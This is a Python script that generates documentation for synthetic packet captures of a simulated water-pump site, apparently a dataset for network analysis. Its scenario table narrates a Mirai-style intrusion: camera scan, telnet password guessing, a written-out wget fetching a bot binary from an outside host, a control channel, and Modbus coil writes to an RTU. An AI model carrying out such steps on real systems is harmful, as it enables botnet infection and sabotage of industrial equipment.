#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write ../SOURCES.md: for each capture how it was made, what is in it, size and digest."""
import ast
import collections
import hashlib
import struct

from city import CORE_MAC, HERE, HOSTS, ISP_MAC, PCAPS, address, read_pcap

STORY = {
    "story/city-pump-attack.pcap": "An ordinary time of the whole site, then the attack (below).",
    "story/normal.pcap": "The first half of it: nothing but ordinary.",
    "story/attack.pcap": "The second half: the attack, with the ordinary traffic going on.",
}
STAGES = """
## The story

| about | who | what |
|---|---|---|
| 0:00 | all devices | DHCP, then NTP; cameras stream to `nvr01`, level sensors publish to `mqtt01`, `scada01` polls both RTUs |
| 0:37 | 203.0.113.66 → 10.20.4.12 | nmap SYN scan of the camera |
| | 203.0.113.66 → 10.20.4.12 | telnet: ten passwords of a botnet's list fail, `admin:12345` opens a shell |
| | 203.0.113.66 → 10.20.4.12 | busybox test, `wget http://198.51.100.23/bins/tramgacbot.arm`, `chmod 777`, run, remove |
| | 10.20.4.12 → 198.51.100.23:80 | the download (an ELF header and strings, no code) |
| | 10.20.4.12 → 198.51.100.23:48101 | control channel: hello, name, pings until the end |
| | 10.20.4.12 → 10.30.1.2-60 | SYN scan for port 502 |
| | 10.20.4.12 → 10.30.1.11:502 | reads coils and registers, writes coils 1 and 2 (function 5), reads again |
"""


def made_by():
    """Capture → (script, function, first line of its docstring), read from the scenarios themselves."""
    found = {}
    for script in ("days.py", "attacks.py"):
        for node in ast.parse((HERE / script).read_text()).body:
            if not isinstance(node, ast.FunctionDef):
                continue
            for text in ast.walk(node):
                if isinstance(text, ast.Constant) and isinstance(text.value, str) and text.value.endswith(".pcap"):
                    found[text.value] = (script, node.name, ast.get_docstring(node) or "")
    for name, text in STORY.items():
        found[name] = ("story.py", "main", text)
    return found


def described(path):
    data = path.read_bytes()
    packets = list(read_pcap(path))
    kinds = collections.Counter()
    for _, frame, _ in packets:
        ethertype = struct.unpack_from(">H", frame, 12)[0]
        kinds["arp" if ethertype == 0x0806 else {6: "tcp", 17: "udp", 1: "icmp"}.get(frame[23], "other")] += 1
    span = (packets[-1][0] - packets[0][0]) / 1e6
    parts = ", ".join(f"{n} {k}" for k, n in sorted(kinds.items()))
    return len(packets), parts, span, len(data), hashlib.sha256(data).hexdigest()


def main():
    origin = made_by()
    files = sorted(p.relative_to(PCAPS).as_posix() for p in PCAPS.glob("*/*.pcap"))
    lines = ["# Where the captures come from", "",
             "All were made for this project by `make/` (see `make/README.md`) from real programs in network namespaces.",
             "Licence: Apache-2.0. Written by `make/sources.py`; do not edit.", "",
             "## Captures", "", "| file | made by | packets | seconds | bytes | what |", "|---|---|--:|--:|--:|---|"]
    digests = []
    for name in files:
        script, function, text = origin[name]
        count, parts, span, size, digest = described(PCAPS / name)
        lines.append(f"| `{name}` | `{script}` `{function}` | {count} ({parts}) | {span:.0f} | {size} | {' '.join(text.split())} |")
        digests.append(f"    {digest}  {name}")
    lines += STAGES.splitlines()
    lines += ["", "## Who is who", "", "| host | address | MAC |", "|---|---|---|"]
    for host in HOSTS:
        lines.append(f"| `{host}` | {address(host)} | {HOSTS[host][2]} |")
    lines += [f"| switch and router | .1 of each segment | {CORE_MAC[:-2]}01 to 04 |",
              f"| router of the internet provider | source of what comes from outside | {ISP_MAC} |", "",
              "`resolver`, `attacker` and `c2` are on the internet. The SPAN port mirrors what enters the switch, so a frame is seen",
              "once, with its sender's MAC address; what a routed frame looks like on its second leg is not in the captures.", "",
              "tshark takes UDP port 1700 for RADIUS: read the LoRaWAN captures with `-d udp.port==1700,data`. Otherwise tshark 4.0",
              "reports no malformed packet in any of them.", "",
              "## SHA-256", ""] + digests
    (PCAPS / "SOURCES.md").write_text("\n".join(lines) + "\n")
    print(len(files), "captures,", sum((PCAPS / f).stat().st_size for f in files), "bytes")


if __name__ == "__main__":
    main()
